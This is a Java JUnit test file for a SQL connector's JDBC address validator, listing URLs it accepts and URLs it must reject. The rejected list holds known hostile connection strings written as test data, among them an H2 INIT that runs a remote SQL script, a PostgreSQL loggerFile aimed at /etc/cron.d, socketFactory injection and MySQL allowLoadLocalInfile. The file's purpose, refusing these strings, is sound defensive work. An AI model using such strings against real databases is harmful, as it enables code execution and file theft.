package de.zubringer.delivery.sql;

import static org.assertj.core.api.Assertions.assertThat;

import de.zubringer.delivery.ConnectorContract;
import de.zubringer.delivery.Orders;
import de.zubringer.delivery.Redirects;
import de.zubringer.delivery.folder.AttachedFiles;
import de.zubringer.kernel.Outcome;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlAddressTest {
  private static final Redirects NOWHERE = new Redirects(Map.of());

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.musterstadt.example/parken",
        "jdbc:postgresql://[2001:db8::1]:5432/parken",
        "jdbc:sqlserver://db.musterstadt.example:1433;databaseName=parken;",
        "jdbc:sqlserver://db.musterstadt.example\\PARKEN;databaseName=parken",
        "jdbc:oracle:thin:@//db.musterstadt.example:1521/PARKEN",
        "jdbc:mariadb://db.musterstadt.example/parken",
        "jdbc:db2://db.musterstadt.example:50000/PARKEN",
        "jdbc:h2:tcp://127.0.0.1:9092/mem:parken",
      })
  void takesAddressesThatNameAPlace(String address) {
    assertThat(of(address)).isInstanceOf(Outcome.Done.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://db.musterstadt.example/",
        "jdbc:postgresql:parken",
        "jdbc:postgresql://db.musterstadt.example/parken?socketFactory=x.Y&socketFactoryArg=z",
        "jdbc:postgresql://db.musterstadt.example/parken?loggerFile=/etc/cron.d/x",
        "jdbc:mysql://db.musterstadt.example/parken?allowLoadLocalInfile=true",
        "jdbc:mysql://(host=x,allowLoadLocalInfile=true)/parken",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x.example/y.sql'",
        "jdbc:h2:tcp://127.0.0.1/mem:x;INIT=drop",
        "jdbc:h2:file:/etc/x",
        "jdbc:sqlite:/etc/x",
        "jdbc:derby://db.musterstadt.example/../x",
        "jdbc:sqlserver://db.musterstadt.example;trustServerCertificate=true",
        "jdbc:postgresql://benutzer:kennwort@db.musterstadt.example/parken",
        "jdbc:postgresql://db.musterstadt.example/parken\nx",
      })
  void takesNoneThatSaysMore(String address) {
    var outcome = of(address);

    assertThat(ConnectorContract.heldFor(outcome.then(ok -> Outcome.later("taken"))))
        .isEqualTo("sql-address-invalid");
  }

  @Test
  void asksForAnAddressWhereThereIsNone() {
    assertThat(
            ConnectorContract.heldFor(
                SqlAddress.of(Orders.to("sql").order(), NOWHERE).then(ok -> Outcome.later(""))))
        .isEqualTo("target-setting-missing");
  }

  @Test
  void holdsWhereNobodyBroughtTheDriver(@TempDir Path data) {
    var settings = new SqlSettings(null, Map.of());
    var connector = new SqlConnector(data, settings, NOWHERE, InstantSource.fixed(Orders.RECEIVED));
    var order =
        Orders.to("sql")
            .with("adresse", "jdbc:nirgends://db.musterstadt.example/parken")
            .with("4711.json", "application/json", SqlFixture.ROWS)
            .order();

    assertThat(ConnectorContract.heldFor(connector.deliver(order))).isEqualTo("sql-driver-missing");
    assertThat(new AttachedFiles(data).put(order, "anlagen")).isInstanceOf(Outcome.Held.class);
  }

  private static Outcome<SqlAddress> of(String address) {
    return SqlAddress.of(Orders.to("sql").with("adresse", address).order(), NOWHERE);
  }
}
